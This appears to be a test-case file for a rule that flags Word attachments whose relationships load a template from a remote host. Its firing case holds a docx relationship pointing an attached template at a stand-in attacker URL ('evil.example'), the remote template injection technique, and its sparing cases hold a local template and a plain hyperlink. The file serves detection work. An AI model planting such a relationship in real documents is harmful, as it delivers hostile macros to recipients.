import type { RuleCases } from '../rule-cases.ts';
import { files } from '../attached-files.fixture.ts';

export const cases: RuleCases = {
  fires: [{ attachment: files.docx({ relations: '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>' }) }],
  spares: [
    { attachment: files.docx({ relations: '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\\Users\\a\\Normal.dotm" TargetMode="External"/>' }) },
    { attachment: files.docx({ relations: '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://friends.example/" TargetMode="External"/>' }) },
  ],
};
